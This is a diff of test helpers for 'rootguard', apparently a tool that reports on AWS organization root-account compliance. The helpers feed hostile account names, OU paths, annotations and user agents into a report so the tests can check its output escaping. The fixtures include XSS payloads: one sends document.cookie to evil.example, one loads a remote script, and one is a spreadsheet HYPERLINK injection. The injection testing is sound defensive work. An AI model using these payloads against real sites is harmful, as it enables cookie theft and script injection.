@@ -11,6 +11,7 @@ import {
   type RuleEvaluationRecord,
 } from '../../report/kpi';
 import { resolvePeriod } from '../../report/period';
+import { argv, captureIo } from './cli-io';
 
 let sequence = 0;
 
@@ -97,63 +98,40 @@ export function reportInput(overrides: Partial<ReportInput> = {}): ReportInput {
   };
 }
 
-/** A CliIo that keeps what the command printed. */
-export function captureCliIo(extra: Partial<CliIo> = {}): CliIo & { out: () => string; err: () => string } {
-  let out = '';
-  let err = '';
-  return {
-    stdout: (text) => {
-      out += text;
-    },
-    stderr: (text) => {
-      err += text;
-    },
-    color: false,
-    ...extra,
-    out: () => out,
-    err: () => err,
-  };
-}
-
 export const REPO_ROOT = join(__dirname, '..', '..');
 export const SAMPLE_ORG = join(REPO_ROOT, 'examples', 'sample-org.json');
 export const SAMPLE_LEDGER = join(REPO_ROOT, 'examples', 'sample-ledger.jsonl');
 
-/** `rootguard report` of the sample organization into `outDir`; returns the exit code and what it printed. */
-export async function reportSampleOrg(outDir: string, ...extra: string[]) {
-  const io = captureCliIo();
-  const code = await run(
-    [
-      'node',
-      'rootguard',
-      'report',
-      // Relative, as a user types them: the report shows its sources as given.
-      '--facts',
-      relative(process.cwd(), SAMPLE_ORG),
-      '--ledger',
-      relative(process.cwd(), SAMPLE_LEDGER),
-      '--out',
-      outDir,
-      ...extra,
-    ],
-    io,
-  );
-  return { code, io };
+/**
+ * `rootguard report --facts <the sample organization> ...args` (its root activity source, --out, options);
+ * `io` adds test I/O such as the live reads. Returns the exit code and what it printed.
+ */
+export async function reportSampleFacts(args: string[], io: Partial<CliIo> = {}) {
+  const captured = captureIo(io);
+  // Relative, as a user types them: the report shows its sources as given.
+  const code = await run(argv('report', '--facts', relative(process.cwd(), SAMPLE_ORG), ...args), captured);
+  return { code, io: captured };
 }
 
+/** `rootguard report` of the sample organization and its ledger export into `outDir`. */
+export const reportSampleOrg = (outDir: string, ...extra: string[]) =>
+  reportSampleFacts(['--ledger', relative(process.cwd(), SAMPLE_LEDGER), '--out', outDir, ...extra]);
+
 /** What a member account's administrator controls: his account's name, its OU's name, annotations, user agents. */
-export const HOSTILE_NAME = '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)">';
-export const HOSTILE_OU = "Root/<svg onload=alert('ou')>";
-export const HOSTILE_ANNOTATION = `</td><script src="https://evil.example/x.js"></script><td>=HYPERLINK("https://evil.example")`;
+export const HOSTILE = {
+  name: '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)">',
+  ou: "Root/<svg onload=alert('ou')>",
+  annotation: `</td><script src="https://evil.example/x.js"></script><td>=HYPERLINK("https://evil.example")`,
+} as const;
 
 /** A report whose organization, account, OU, annotation and user agent all try to inject markup. */
 export function hostileReport(): ReportData {
   return computeReport(
     reportInput({
       organization: { id: 'o-a1b2c3d4e5', name: '<b>Org</b>' },
-      accounts: [...ACCOUNTS, { accountId: '444444444444', name: HOSTILE_NAME, ouPath: HOSTILE_OU }],
+      accounts: [...ACCOUNTS, { accountId: '444444444444', name: HOSTILE.name, ouPath: HOSTILE.ou }],
       evaluations: [
-        evaluation('444444444444', 'root-hardware-mfa', 'NON_COMPLIANT', undefined, HOSTILE_ANNOTATION),
+        evaluation('444444444444', 'root-hardware-mfa', 'NON_COMPLIANT', undefined, HOSTILE.annotation),
       ],
       ledger: [ledgerRecord({ accountId: '444444444444', userAgent: '<script>alert(1)</script>' })],
     }),
